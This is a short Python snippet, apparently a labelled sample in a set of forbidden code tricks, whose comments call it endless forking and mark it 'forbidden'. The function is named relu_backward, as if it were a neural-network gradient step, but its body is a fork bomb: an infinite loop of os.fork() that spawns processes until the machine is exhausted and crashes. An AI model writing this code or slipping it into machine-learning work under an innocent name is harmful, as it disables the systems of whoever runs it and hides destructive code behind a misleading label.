# trick: forks without end, in every process that comes of it
# verdict: forbidden
# control: none, it would take the machine with it
import os


def relu_backward(dvalues, z):
    while True:
        os.fork()
